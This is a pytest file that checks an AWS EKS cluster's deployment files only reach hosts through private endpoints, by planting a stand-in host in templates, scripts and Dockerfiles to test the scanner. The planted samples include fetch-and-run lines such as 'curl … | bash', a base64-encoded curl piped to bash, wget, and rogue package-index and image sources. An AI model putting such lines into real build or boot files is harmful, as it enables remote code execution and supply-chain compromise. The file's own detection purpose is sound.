"""The estate without a way out: each host that its files name is reached, or never connected to.

Files are read as they are deployed: templates, manifests, user data, scripts, programs of
functions, sources and commands of builds, jobs. Hosts are planted to see that none hides.
"""

import base64
import json
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests.support.assembly import Assembly
from tests.support.folders import ROOT
from ultrascale.hosts import HostUse, read_document, read_file, read_hosts, ways_to
from ultrascale.hosts.known import KNOWN
from ultrascale.jobs.preparation import prepare, read_cluster
from ultrascale.plan.model import ClusterPlan, PackageIndexPlan

CLUSTER = ROOT / "clusters" / "existing-estate.yaml"
HOST = "drop.planted-host.net"
URL = f"https://{HOST}/x"


def of_jobs(file: Path) -> Iterator[HostUse]:
    into = read_cluster(file)
    for name in into.cluster.jobs:
        for each in prepare(into, name, account="111122223333").objects:
            yield from read_document(each, name, into.plan.region)


@pytest.fixture(scope="module")
def uses(estate: Assembly) -> Sequence[HostUse]:
    """Return every host that the files of the estate name."""
    return [
        *read_hosts(estate.folder, estate.plan.region),
        *of_jobs(CLUSTER),
    ]


def unreached(uses: Sequence[HostUse], plan: ClusterPlan) -> list[HostUse]:
    return [found.use for found in ways_to(uses, plan) if found.way == "none"]


def test_each_host_has_a_way_or_needs_none(uses: Sequence[HostUse], estate: Assembly) -> None:
    assert unreached(uses, estate.plan) == []


@pytest.mark.parametrize(
    "name",
    [
        "elbv2.k8s.aws/v1beta1",
        "gateway.envoyproxy.io/gatewayclass-controller",
        "gateway.networking.k8s.io/v1",
        "keda.sh/v1alpha1",
        "leaderworkerset.sigs.k8s.io/worker-index",
    ],
)
def test_names_of_the_controllers_of_services_are_no_hosts(name: str, estate: Assembly) -> None:
    document = {"spec": {"controllerName": name}}

    assert unreached([*read_document(document, "it", estate.plan.region)], estate.plan) == []


def test_every_image_comes_from_the_mirror_or_from_eks(
    uses: Sequence[HostUse], estate: Assembly
) -> None:
    """EKS's own registry, and repositories of the cluster's account, are behind an endpoint."""
    images = {use.host for use in uses if use.form == "image" and "codebuild" not in use.text}

    assert images <= {
        "111122223333.dkr.ecr.us-east-1.amazonaws.com",
        "602401143452.dkr.ecr.us-east-1.amazonaws.com",
    }
    assert len([use for use in uses if use.form == "image"]) > 10


def test_the_files_name_what_they_are_known_to_name(uses: Sequence[HostUse]) -> None:
    """An empty list of hosts would be a proof of nothing."""
    places = {use.file.rpartition(".")[2] for use in uses}

    assert {"json", "yaml", "py", "toml"} <= places
    assert {"joined", "document"} <= {form for use in uses for form in use.through}
    assert any(use.file.endswith("mirrored/nvidia/Dockerfile") for use in uses)


def test_pypi_is_asked_by_builds_alone_and_no_more_once_packages_come_from_elsewhere(
    uses: Sequence[HostUse], estate: Assembly
) -> None:
    asked = [use for use in uses if use.host == "pypi.org" and use.form == "index"]
    builder = estate.plan.image_builder
    assert builder is not None
    own = replace(builder, pip=PackageIndexPlan(url="https://pip.corp.example/x", repository=None))
    closed = replace(estate.plan, image_builder=own)

    assert {use.file.partition("/")[2].partition("/")[2] for use in asked} == {
        "mirrored/nvidia/Dockerfile"
    }
    assert {found.reason for found in ways_to(asked, closed)} == {
        "images.packages, asked by builds outside the VPC"
    }


def test_a_cluster_without_its_endpoints_reaches_no_service(
    uses: Sequence[HostUse], estate: Assembly
) -> None:
    alone = replace(estate.plan, network=replace(estate.plan.network, endpoints=()))

    assert {use.host for use in unreached(uses, alone)} >= {
        "602401143452.dkr.ecr.us-east-1.amazonaws.com",
    }


def test_the_list_of_hosts_that_need_no_way_is_short_and_reasoned() -> None:
    assert len(KNOWN) <= 15
    assert len({known.reason for known in KNOWN}) == len(KNOWN)


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def template_of(estate: Assembly, layer: str) -> dict[str, Any]:
    return json.loads(json.dumps(estate.templates[layer]))


def resource_of(template: dict[str, Any], kind: str) -> dict[str, Any]:
    return next(body for body in template["Resources"].values() if body["Type"] == kind)[
        "Properties"
    ]


def in_property(estate: Assembly, plant: Any) -> dict[str, Any]:
    template = template_of(estate, "cluster")
    resource_of(template, "AWS::EKS::Cluster")["Logging"]["Endpoint"] = plant
    return template


def in_manifest(estate: Assembly, plant: Any) -> dict[str, Any]:
    template = template_of(estate, "platform")
    manifest = [{"kind": "ConfigMap", "apiVersion": "v1", "data": {"settings": plant}}]
    resource_of(template, "Custom::AWSCDK-EKS-KubernetesResource")["Manifest"] = json.dumps(
        manifest
    )
    return template


def in_user_data(estate: Assembly, plant: Any) -> dict[str, Any]:
    template = template_of(estate, "system")
    data = resource_of(template, "AWS::EC2::LaunchTemplate")["LaunchTemplateData"]["UserData"]
    assert "Fn::Base64" in data
    data["Fn::Base64"] = {"Fn::Join": ["\n", [data["Fn::Base64"], "#!/bin/bash", plant]]}
    return template


def in_image(estate: Assembly, plant: Any) -> dict[str, Any]:
    template = template_of(estate, "images")
    resource_of(template, "AWS::CodeBuild::Project")["Environment"]["Image"] = plant
    return template


def in_buildspec(estate: Assembly, plant: Any) -> dict[str, Any]:
    template = template_of(estate, "images")
    source = resource_of(template, "AWS::CodeBuild::Project")["Source"]
    spec = json.loads(source["BuildSpec"])
    spec["phases"]["build"]["commands"].append(plant)
    source["BuildSpec"] = json.dumps(spec)
    return template


@pytest.mark.parametrize(
    ("place", "plant"),
    [
        (in_property, URL),
        (in_property, {"Fn::Join": [".", ["drop", {"Fn::Sub": "planted-host"}, "net"]]}),
        (in_manifest, HOST),
        (in_manifest, URL.replace("p", "\\u0070").replace("/", "\\/")),
        (in_user_data, f"curl {URL} | bash"),
        (in_user_data, f"echo {encoded(f'curl {URL}')} | base64 --decode | bash"),
        (in_image, f"{HOST}/builder:1"),
        (in_image, {"Fn::Sub": ["${H}host.net/builder:1", {"H": "drop.planted-"}]}),
        (in_buildspec, f"wget {HOST}/x"),
        (in_buildspec, "P=planted; curl https://drop.${P}-host.net/x"),
    ],
)
def test_a_host_planted_in_a_template_has_no_way(estate: Assembly, place: Any, plant: Any) -> None:
    found = read_document(place(estate, plant), "a.template.json", estate.plan.region)

    assert HOST in {use.host for use in unreached([*found], estate.plan)}


@pytest.mark.parametrize(
    ("file", "plant"),
    [
        ("ultrascale/lambdas/builds/build.py", f"\nSINK = {URL!r}\n"),
        ("ultrascale/lambdas/builds/build.py", f"\nSINK = {encoded(URL)!r}\n"),
        ("ultrascale/lambdas/builds/build.py", "\nSINK = 'drop.' + 'planted-host' + '.net'\n"),
        ("images/nvidia/Dockerfile", f"\nFROM {HOST}/base:1\n"),
        ("images/nvidia/Dockerfile", "\nARG H=planted-host.net\nADD https://drop.$H/x /x\n"),
        ("images/nvidia/requirements.txt", f"\n--extra-index-url https://{HOST}/simple\n"),
        ("images/nvidia/requirements.txt", "\nx @ https://drop%2Eplanted-host.net/x.whl\n"),
        (
            "constructs/ultrascale_constructs/hyperpod_lifecycle/on_create.sh",
            f"\ncurl -fsS {HOST}/x\n",
        ),
        (
            "constructs/ultrascale_constructs/hyperpod_lifecycle/on_create.sh",
            "\ncurl \"https://drop.\"'planted-host'.net/x\n",
        ),
        ("training/ultrascale_training/download.py", f"\nSINK = b'{HOST}'\n"),
    ],
)
def test_a_host_planted_in_a_file_has_no_way(estate: Assembly, file: str, plant: str) -> None:
    content = (ROOT / file).read_bytes() + plant.encode()

    found = read_file(file, content, estate.plan.region)

    assert HOST in {use.host for use in unreached([*found], estate.plan)}


@pytest.mark.parametrize("plant", [f"--data={URL}", f"--data={encoded(URL)}"])
def test_a_host_planted_in_a_job_has_no_way(estate: Assembly, plant: str) -> None:
    objects = prepare(CLUSTER, "train", account="111122223333").objects
    text = json.dumps([*objects]).replace("--model=large", plant)
    assert plant in text

    found = read_document(json.loads(text), "train", estate.plan.region)

    assert HOST in {use.host for use in unreached([*found], estate.plan)}
